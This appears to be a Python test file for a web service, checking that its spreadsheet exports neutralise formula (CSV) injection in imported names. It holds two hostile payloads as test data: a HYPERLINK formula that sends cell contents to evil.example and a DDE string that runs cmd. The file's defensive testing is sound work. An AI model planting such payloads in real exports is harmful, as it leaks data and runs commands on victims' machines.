"""Imported names never become live formulas in an export (the probe's F3, OWASP "CSV injection").

A table test of the one helper every export uses, then the real path: an Expert imported with a
formula for a name, /figures.xlsx downloaded by a supervisor and opened again with openpyxl.
"""

from __future__ import annotations

import zipfile
from collections.abc import AsyncIterator
from datetime import date, datetime
from decimal import Decimal
from io import BytesIO
from typing import Any

import pytest
from aiohttp.test_utils import TestClient
from openpyxl import load_workbook

from service.app import create_app
from service.db.engine import SessionMaker
from service.db.users import UsersRepository
from service.exports_safety import spreadsheet_row, spreadsheet_value
from service.imports.runner import import_rows
from service.passwords import hash_password
from service.settings import Settings
from tests.service.test_figures_db import seed_figures
from tests.service.web_helpers import DEFAULT_PASSWORD, sign_in

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(("value", "written"), [
    (LEAK, "'" + LEAK),
    ("=1+1", "'=1+1"),
    ("+7 911 555-01-01", "'+7 911 555-01-01"),
    ("-2+3", "'-2+3"),
    ("-5", "'-5"),  # text that looks like a number is still text
    (DDE, "'" + DDE),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Орлова Мария", "Орлова Мария"),
    ("a=b", "a=b"),
    ("", ""),
    ("'=already quoted", "'=already quoted"),
    (-5, -5),  # numbers stay numbers, negative ones too
    (-2.5, -2.5),
    (Decimal("-1234.50"), Decimal("-1234.50")),
    (0, 0),
    (True, True),
    (None, None),
    (date(2026, 3, 2), date(2026, 3, 2)),
    (datetime(2026, 3, 2, 9, 30), datetime(2026, 3, 2, 9, 30)),
])
def test_only_text_a_spreadsheet_would_evaluate_is_neutralised(value: object, written: object) -> None:
    assert spreadsheet_value(value) == written
    assert type(spreadsheet_value(value)) is type(written)


def test_a_row_is_neutralised_cell_by_cell() -> None:
    assert spreadsheet_row(["=1", 1, None, "x"]) == ["'=1", 1, None, "x"]


@pytest.fixture
async def supervisor(aiohttp_client: Any, db_sessions: SessionMaker, migrated_db: str,
                     cheap_hashes: None) -> AsyncIterator[TestClient]:
    """The figures dataset, with maria re-imported under a formula for a name, anna's group one too."""
    await seed_figures(db_sessions)
    await import_rows("experts", [
        {"login": "maria", "full_name": LEAK, "extension": "101", "group": "Группа 1"},
        {"login": "anna", "full_name": "Белова Анна", "extension": "102", "group": DDE},
    ], db_sessions)
    await UsersRepository(db_sessions).set_password_hash("olga", hash_password(DEFAULT_PASSWORD))
    client = await aiohttp_client(create_app(Settings.model_validate({"database": {"url": migrated_db}}),
                                             with_pbx=False))
    await sign_in(client, "olga")
    yield client


@pytest.mark.parametrize("scope", ["department", "expert:maria"])
async def test_the_figures_xlsx_holds_the_names_as_text(supervisor: TestClient, scope: str) -> None:
    response = await supervisor.get(f"/figures.xlsx?scope={scope}&period=week&date=2026-03-04")
    assert response.status == 200
    body = await response.read()
    with zipfile.ZipFile(BytesIO(body)) as archive:  # what Excel reads: no <f> element anywhere
        assert not [name for name in archive.namelist() if b"<f>" in archive.read(name)]
    book = load_workbook(BytesIO(body))  # not data_only: a formula would come back as data_type "f"
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if c.data_type == "s"}
    if scope == "department":
        maria = next(row for row in book["По экспертам"].iter_rows(min_row=2, values_only=True) if row[1] == "maria")
        anna = next(row for row in book["По экспертам"].iter_rows(min_row=2, values_only=True) if row[1] == "anna")
        assert (maria[0], maria[3], anna[3]) == ("'" + LEAK, "Группа 1", "'" + DDE)
        assert isinstance(maria[4], int) and maria[4] > 0  # numbers are still numbers
    else:
        assert book["Параметры"]["B2"].value == "'" + LEAK  # the scope's title is the Expert's name
    assert "'" + LEAK in texts and LEAK not in texts
